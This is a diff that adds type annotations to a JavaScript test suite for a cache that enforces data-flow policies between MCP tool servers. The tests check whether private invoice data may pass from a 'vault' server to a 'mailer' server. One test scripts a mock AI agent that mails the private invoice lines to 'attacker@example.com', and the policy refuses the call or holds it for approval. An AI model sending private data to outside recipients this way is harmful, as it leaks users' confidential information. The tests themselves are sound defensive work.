@@ -19,20 +19,43 @@ import { wrapMcpClient } from '../../js/mcp-client.node.mjs';
 import { wrapAiSdkTools } from '../../js/ai-sdk.node.mjs';
 import { checkFlows, decideFlow, flowsOf, judgeFlows } from '../../js/flows.mjs';
 
+/**
+ * @import { LanguageModelV4GenerateResult, LanguageModelV4Prompt, LanguageModelV4ToolResultOutput } from '@ai-sdk/provider'
+ * @import { ModelMessage, ToolSet } from 'ai'
+ * @import { CacheEvent, Flow, FlowPolicy } from '../../js/index.js'
+ * @import { TablePolicy } from '../../js/flows.mjs'
+ */
+
+/**
+ * The params of a `tools/call` a server received (`raw` of tests/support/logged-server.mjs).
+ * @typedef {{ name: string, arguments: Record<string, unknown> }} CallParams
+ * What a tool's execute resolves here: an MCP `CallToolResult` of text blocks (or the envelope of a refused call).
+ * @typedef {{ content: Array<{ type: string, text: string }>, isError?: boolean }} TextResult
+ * The execute options the tests pass.
+ * @typedef {{ toolCallId: string, messages: never[] }} CallOptions
+ * A tool of `wrapAiSdkTools` as the tests call it: `execute` and `needsApproval` run directly
+ * (js/ai-sdk.d.ts types them as the AI SDK's `Tool`, whose members are optional).
+ * @typedef {{ execute(input: unknown, options: CallOptions): Promise<TextResult>, needsApproval(input: unknown, options: CallOptions): Promise<boolean> }} CalledTool
+ * A `blocked` event of a flow (not of a database).
+ * @typedef {Extract<CacheEvent, { kind: 'blocked', from: unknown }>} BlockedFlow
+ */
+
 const CONV = 'flows-1';
 const LINES = Array.from({ length: 120 }, (_, i) => ({ sku: `SKU-${i}`, description: `Line ${i} of the private invoice`, amount: i * 3.5 }));
 
 let n = 0;
+/** @param {Record<string, unknown>} [extra] */
 function newCache(extra = {}) {
+  /** @type {CacheEvent[]} */
   const events = [];
-  const cache = new ResultCache({ dbName: `flows-${process.pid}-${n++}`, onEvent: (e) => events.push(e), ...extra });
+  const cache = new ResultCache({ dbName: `flows-${process.pid}-${n++}`, onEvent: (/** @type {CacheEvent} */ e) => events.push(e), ...extra });
   return { cache, events };
 }
 
 /** An `McpServer` whose transport logs every raw `tools/call` it delivers (`raw`). */
 const serve = serveLogged;
 
-const json = (value) => ({ content: [{ type: 'text', text: JSON.stringify(value) }], structuredContent: value });
+const json = (/** @type {Record<string, unknown>} */ value) => /** @type {import('@modelcontextprotocol/sdk/types.js').CallToolResult} */ ({ content: [{ type: 'text', text: JSON.stringify(value) }], structuredContent: value });
 const lines = z.array(z.object({ sku: z.string(), description: z.string(), amount: z.number() }));
 
 /** `vault` (the private data, and a tool of its own taking it back) and `mailer` (open-world `send_report`, closed-world `archive.put`). */
@@ -52,15 +75,20 @@ async function servers() {
   return { vault, mailer, close: async () => Promise.all([vault.close(), mailer.close()]) };
 }
 
+/** @param {{ clientSide: import('@modelcontextprotocol/sdk/shared/transport.js').Transport }} endpoint */
 async function sdkClient(endpoint) {
   const client = new Client({ name: 'flows-test', version: '1.0.0' });
   await client.connect(endpoint.clientSide);
   return client;
 }
 
-const textJson = (result) => JSON.parse(result.content[0].text);
+const textJson = (/** @type {unknown} */ result) => JSON.parse(/** @type {TextResult} */ (result).content[0].text);
 
-/** Both servers behind `wrapMcpClient` on one cache; the vault's invoice fetched once (its reference). */
+/**
+ * Both servers behind `wrapMcpClient` on one cache; the vault's invoice fetched once (its reference).
+ * @param {Record<string, unknown>} [cacheOptions]
+ * @param {Record<string, unknown>} [mailerOptions]
+ */
 async function setup(cacheOptions = {}, mailerOptions = {}) {
   const s = await servers();
   const { cache, events } = newCache(cacheOptions);
@@ -71,7 +99,7 @@ async function setup(cacheOptions = {}, mailerOptions = {}) {
   return { s, cache, events, vault, mailer, uri: invoice._cache_uri };
 }
 
-const mailerCalls = (s) => s.mailer.raw.filter((p) => p.name === 'send_report' || p.name === 'archive.put');
+const mailerCalls = (/** @type {Awaited<ReturnType<typeof servers>>} */ s) => /** @type {CallParams[]} */ (s.mailer.raw).filter((p) => p.name === 'send_report' || p.name === 'archive.put');
 
 // --- the pure rule ---------------------------------------------------------------------------
 
@@ -90,7 +118,7 @@ test('checkFlows: the modes, objects and functions pass; anything else is a Type
 });
 
 test('decideFlow: same server always; same-server, guarded (openWorldHint), tables with "*"', () => {
-  const flow = (from, to, annotations = {}) => ({ from, to, annotations });
+  const flow = (/** @type {string | null} */ from, /** @type {string | null} */ to, /** @type {Record<string, unknown>} */ annotations = {}) => ({ from, to, annotations });
   assert.equal(decideFlow('any', flow('a', 'b')), 'allow');
   assert.equal(decideFlow('same-server', flow('a', 'a')), 'allow');
   assert.equal(decideFlow('same-server', flow('a', 'b')), 'deny');
@@ -99,7 +127,7 @@ test('decideFlow: same server always; same-server, guarded (openWorldHint), tabl
   assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: true })), 'ask');
   assert.equal(decideFlow('guarded', flow('a', 'b', { openWorldHint: false })), 'allow');
   assert.equal(decideFlow('guarded', flow('a', 'a')), 'allow');
-  const table = checkFlows({ vault: ['archive'], crm: '*', '*': ['mailer'] }, 'x');
+  const table = /** @type {TablePolicy} */ (checkFlows({ vault: ['archive'], crm: '*', '*': ['mailer'] }, 'x'));
   assert.equal(decideFlow(table, flow('vault', 'archive')), 'allow');
   assert.equal(decideFlow(table, flow('vault', 'mailer')), 'deny', 'a listed source uses its own list');
   assert.equal(decideFlow(table, flow('crm', 'anything')), 'allow');
@@ -107,7 +135,7 @@ test('decideFlow: same server always; same-server, guarded (openWorldHint), tabl
   assert.equal(decideFlow(table, flow(null, 'mailer')), 'allow', 'an unnamed source is any other');
   assert.equal(decideFlow(table, flow('other', 'archive')), 'deny');
   assert.equal(decideFlow(table, flow('vault', null)), 'deny', 'an unnamed target matches only "*"');
-  assert.equal(decideFlow(checkFlows({ vault: ['mailer'] }, 'x'), flow('crm', 'mailer')), 'deny', 'no "*": unlisted sources go nowhere else');
+  assert.equal(decideFlow(/** @type {TablePolicy} */ (checkFlows({ vault: ['mailer'] }, 'x')), flow('crm', 'mailer')), 'deny', 'no "*": unlisted sources go nowhere else');
 });
 
 test('flowsOf groups references by source; judgeFlows calls a function policy once a flow, unknown answers deny', async () => {
@@ -120,6 +148,7 @@ test('flowsOf groups references by source; judgeFlows calls a function policy on
     { from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: ['mcp+cache://c/aaaaaaaa', 'mcp+cache://c/aaaaaaaa#/lines'], annotations: { openWorldHint: true } },
     { from: null, to: 'mailer', toolName: 'send_report', sourceToolName: 'notes.get', uris: ['mcp+cache://c/bbbbbbbb'], annotations: { openWorldHint: true } },
   ]);
+  /** @type {(string | null)[]} */
   const seen = [];
   const verdicts = await judgeFlows(async (f) => {
     seen.push(f.from);
@@ -161,7 +190,7 @@ test('"same-server": denied before dispatch with the envelope and a blocked even
 
     // The vault's own tool takes its data back.
     assert.deepEqual(textJson(await vault.callTool({ name: 'invoice.check', arguments: { lines_uri: `${uri}#/lines` } })), { ok: true, count: 120 });
-    assert.deepEqual(s.vault.raw.at(-1).arguments.lines, LINES);
+    assert.deepEqual(/** @type {CallParams} */ (s.vault.raw.at(-1)).arguments.lines, LINES);
   } finally {
     await s.close();
   }
@@ -187,9 +216,10 @@ test('every reference of a call is checked: one refused reference blocks the cal
 });
 
 test('"guarded": openWorldHint false passes; an open-world tool asks approve(flow), which decides that one call', async () => {
+  /** @type {Flow[]} */
   const asked = [];
   let answer = false;
-  const approve = async (flow) => {
+  const approve = async (/** @type {Flow} */ flow) => {
     asked.push(flow);
     return answer;
   };
@@ -206,7 +236,7 @@ test('"guarded": openWorldHint false passes; an open-world tool asks approve(flo
     assert.match(declined.fix_hint, /declined/);
     assert.deepEqual(asked, [{ from: 'vault', to: 'mailer', toolName: 'send_report', sourceToolName: 'invoice.get', uris: [`${uri}#/lines`], annotations: {} }]);
     assert.equal(mailerCalls(s).filter((p) => p.name === 'send_report').length, 0);
-    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
 
     // Approved → the lines arrive whole.
     answer = true;
@@ -261,8 +291,9 @@ test('an object policy, and the wrapper\'s flows overriding the cache\'s', async
 });
 
 test('a function policy gets each flow and may answer a promise; ask goes to approve', async () => {
+  /** @type {Flow[]} */
   const flows = [];
-  const policy = async (flow) => {
+  const policy = async (/** @type {Flow} */ flow) => {
     flows.push(flow);
     return flow.toolName === 'archive.put' ? 'allow' : 'ask';
   };
@@ -291,10 +322,10 @@ test('a derived reference (cache_select) carries its source\'s server', async ()
     assert.equal(refused.error, 'reference_not_allowed');
     assert.deepEqual(refused._refused_uris, [selected._cache_uri]);
     assert.deepEqual(mailerCalls(s), []);
-    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
     // beforeToolCall reports where the data comes from: the vault's tool, not cache_select.
     const before = await cache.beforeToolCall('send_report', { lines_uri: selected._cache_uri }, { convId: CONV, server: 'mailer' });
-    assert.deepEqual(before.sources, [{ uri: selected._cache_uri, sourceToolName: 'invoice.get', sourceServer: 'vault' }]);
+    assert.deepEqual(/** @type {{ sources?: unknown }} */ (before).sources, [{ uri: selected._cache_uri, sourceToolName: 'invoice.get', sourceServer: 'vault' }]);
   } finally {
     await s.close();
   }
@@ -306,17 +337,18 @@ test('the ResultCache constructor and checkFlows accept and refuse the same valu
   const values = [undefined, 'any', 'same-server', 'guarded', () => 'allow', {}, { vault: ['a', 'b'] }, { '*': '*' }, { vault: [] },
     'all', '', 'ANY', null, 0, true, [], ['vault'], { vault: 'mailer' }, { vault: [1] }, { vault: null }, { vault: ['a', null] }, throwing, getter];
   for (const [i, value] of values.entries()) {
-    const byJs = (() => { try { checkFlows(value, 'x'); return 'ok'; } catch (e) { return e.constructor.name; } })();
-    const byCache = (() => { try { new ResultCache({ storage: 'memory', flows: value }); return 'ok'; } catch (e) { return e.constructor.name; } })();
+    const byJs = (() => { try { checkFlows(value, 'x'); return 'ok'; } catch (e) { return /** @type {Error} */ (e).constructor.name; } })();
+    const byCache = (() => { try { new ResultCache({ storage: 'memory', flows: value }); return 'ok'; } catch (e) { return /** @type {Error} */ (e).constructor.name; } })();
     assert.equal(byCache, byJs, `values[${i}]`);
     assert.ok(byJs === 'ok' || byJs === 'TypeError');
   }
 });
 
 test('reportBlockedFlow hands onEvent a new blocked event of the flow, whatever the flow or the observer does', () => {
+  /** @type {CacheEvent[]} */
   const events = [];
   const flow = { from: 'vault', to: 'mailer', toolName: 'send_report', uris: ['mcp+cache://c/t'], sourceToolName: 'invoice.get' };
-  const cache = new ResultCache({ storage: 'memory', onEvent: (e) => events.push(e) });
+  const cache = new ResultCache({ storage: 'memory', onEvent: (/** @type {CacheEvent} */ e) => events.push(e) });
   cache.reportBlockedFlow(flow);
   assert.deepEqual(events, [{ kind: 'blocked', from: 'vault', to: 'mailer', toolName: 'send_report', uris: ['mcp+cache://c/t'] }]);
   assert.notEqual(events[0], flow);
@@ -336,8 +368,9 @@ test('reportBlockedFlow hands onEvent a new blocked event of the flow, whatever 
 
 test('onEvent is read once: the observer of blocked flows is the observer of every other event', async () => {
   let reads = 0;
+  /** @type {string[]} */
   const events = [];
-  const observer = (e) => events.push(e.kind);
+  const observer = (/** @type {CacheEvent} */ e) => events.push(e.kind);
   const cache = new ResultCache({ storage: 'memory', threshold: 0, get onEvent() { reads += 1; return reads === 1 ? observer : () => {}; } });
   await cache.cacheToolResult({ payload: { rows: [1] }, convId: 'c' });
   cache.reportBlockedFlow({ from: 'a', to: 'b', toolName: 't', uris: [] });
@@ -359,7 +392,7 @@ test('bad flows and approve are TypeErrors at once', async () => {
   assert.throws(() => new ResultCache({ storage: 'memory', flows: 'sameserver' }), (e) => e instanceof TypeError && /flows must be/.test(e.message));
   assert.throws(() => new ResultCache({ storage: 'memory', flows: { vault: 'mailer' } }), TypeError);
   assert.throws(() => new ResultCache({ storage: 'memory', flows: [] }), TypeError);
-  assert.equal(new ResultCache({ storage: 'memory', flows: { vault: ['a'], '*': '*' } }).flows.vault[0], 'a');
+  assert.equal(/** @type {Record<string, string[]>} */ (new ResultCache({ storage: 'memory', flows: { vault: ['a'], '*': '*' } }).flows).vault[0], 'a');
   const s = await servers();
   try {
     const client = await sdkClient(s.mailer);
@@ -375,14 +408,18 @@ test('bad flows and approve are TypeErrors at once', async () => {
 // --- wrapAiSdkTools: needsApproval and the AI SDK's approval ---------------------------------
 
 const usage = { inputTokens: { total: 10, noCache: 10, cacheRead: 0, cacheWrite: 0 }, outputTokens: { total: 5, text: 5, reasoning: 0 } };
+/** @type {(id: string, toolName: string, input: unknown) => LanguageModelV4GenerateResult} */
 const toolCall = (id, toolName, input) => ({ content: [{ type: 'tool-call', toolCallId: id, toolName, input: JSON.stringify(input) }], finishReason: { unified: 'tool-calls', raw: undefined }, usage, warnings: [] });
+/** @type {(text: string) => LanguageModelV4GenerateResult} */
 const answer = (text) => ({ content: [{ type: 'text', text }], finishReason: { unified: 'stop', raw: undefined }, usage, warnings: [] });
 
+/** @param {FlowPolicy} flows */
 async function aiSdkSetup(flows) {
   const s = await servers();
   const { cache, events } = newCache({ flows });
   const vaultMcp = await createMCPClient({ transport: s.vault.clientSide });
   const mailerMcp = await createMCPClient({ transport: s.mailer.clientSide });
+  /** @type {{ name: string, args: unknown }[]} */
   const executed = [];
   const mailerTools = await mailerMcp.tools();
   // Record every run of the original execute (what the tool would send the server).
@@ -393,10 +430,10 @@ async function aiSdkSetup(flows) {
       return original.call(t, args, options);
     };
   }
-  const tools = {
+  const tools = /** @type {Record<string, CalledTool> & ToolSet} */ ({
     ...wrapAiSdkTools(await vaultMcp.tools(), { cache, convId: CONV, server: 'vault' }),
     ...wrapAiSdkTools(mailerTools, { cache, convId: CONV, server: 'mailer' }),
-  };
+  });
   const close = async () => {
     await vaultMcp.close();
     await mailerMcp.close();
@@ -430,7 +467,7 @@ test('wrapAiSdkTools: execute lets an asked flow through only for a call the AI 
     const direct = await tools.send_report.execute(input, { toolCallId: 'd1', messages: [] });
     assert.equal(JSON.parse(direct.content[0].text).error, 'reference_not_allowed');
     assert.deepEqual(executed, []);
-    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
     // Sent to approval (needsApproval answered true for this call): it runs, once.
     assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'd2', messages: [] }), true);
     assert.deepEqual(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: [] })).content[0].text), { sent: 120 });
@@ -453,32 +490,33 @@ test('wrapAiSdkTools: the tool\'s own needsApproval composes; "same-server" deni
     const out = await tools.send_report.execute(input, { toolCallId: 'b', messages: [] });
     assert.equal(JSON.parse(out.content[0].text).error, 'reference_not_allowed');
     assert.deepEqual(executed, []);
-    assert.deepEqual(events.filter((e) => e.kind === 'blocked').map((e) => [e.from, e.to]), [['vault', 'mailer']]);
+    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
   } finally {
     await close();
   }
   const { cache } = newCache();
-  const own = wrapAiSdkTools({ t: { inputSchema: z.object({ a: z.string() }), needsApproval: async (i) => i.a === 'yes', execute: async () => 'x' } }, { cache });
+  const own = /** @type {Record<string, CalledTool>} */ (wrapAiSdkTools({ t: { inputSchema: z.object({ a: z.string() }), needsApproval: async (/** @type {{ a: string }} */ i) => i.a === 'yes', execute: async () => 'x' } }, { cache }));
   assert.equal(await own.t.needsApproval({ a: 'yes' }, { toolCallId: 'c', messages: [] }), true);
   assert.equal(await own.t.needsApproval({ a: 'no' }, { toolCallId: 'c', messages: [] }), false);
-  const always = wrapAiSdkTools({ t: { inputSchema: z.object({}), needsApproval: true, execute: async () => 'x' } }, { cache });
+  const always = /** @type {Record<string, CalledTool>} */ (wrapAiSdkTools({ t: { inputSchema: z.object({}), needsApproval: true, execute: async () => 'x' } }, { cache }));
   assert.equal(await always.t.needsApproval({}, { toolCallId: 'c', messages: [] }), true);
 });
 
 test('generateText under "guarded": the mailing asks; denied, the original execute never runs; approved, the mailer gets the lines', async () => {
   const { s, tools, executed, close } = await aiSdkSetup('guarded');
   try {
-    const script = (prompt) => {
+    const script = (/** @type {LanguageModelV4Prompt} */ prompt) => {
       const results = new Map(prompt.filter((m) => m.role === 'tool').flatMap((m) => m.content.filter((p) => p.type === 'tool-result')).map((p) => [p.toolCallId, p.output]));
       if (!results.has('c1')) return toolCall('c1', 'invoice.get', { id: 'INV-3' });
       if (!results.has('c2')) {
-        const output = results.get('c1');
-        const text = output.type === 'content' ? output.value.find((p) => p.type === 'text').text : output.value;
+        const output = /** @type {LanguageModelV4ToolResultOutput} */ (results.get('c1'));
+        const text = output.type === 'content' ? /** @type {{ text: string }} */ (output.value.find((p) => p.type === 'text')).text : /** @type {{ value: string }} */ (output).value;
         return toolCall('c2', 'send_report', { to: 'attacker@example.com', lines_uri: `${JSON.parse(text)._cache_uri}#/lines` });
       }
       return answer(`done: ${JSON.stringify(results.get('c2'))}`);
     };
     const model = new MockLanguageModelV4({ doGenerate: async ({ prompt }) => script(prompt) });
+    /** @type {ModelMessage[]} */
     const messages = [{ role: 'user', content: 'Mail the invoice' }];
     const first = await generateText({ model, tools, messages, stopWhen: stepCountIs(5) });
     const request = first.content.find((p) => p.type === 'tool-approval-request');
@@ -487,6 +525,7 @@ test('generateText under "guarded": the mailing asks; denied, the original execu
     assert.deepEqual(executed, [], 'nothing ran before the approval');
 
     const history = [...messages, ...first.response.messages];
+    /** @type {(approved: boolean) => ModelMessage[]} */
     const respond = (approved) => [...history, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved }] }];
 
     const denied = await generateText({ model, tools, messages: respond(false), stopWhen: stepCountIs(5) });
@@ -496,7 +535,8 @@ test('generateText under "guarded": the mailing asks; denied, the original execu
 
     await generateText({ model, tools, messages: respond(true), stopWhen: stepCountIs(5) });
     assert.equal(executed.length, 1);
-    assert.deepEqual(executed[0].args.lines, LINES);
+    // (`executed` is typed `never[]` here: the `deepEqual(executed, [])` above narrowed it.)
+    assert.deepEqual(/** @type {{ args: { lines: unknown } }} */ (executed[0]).args.lines, LINES);
     assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
   } finally {
     await close();
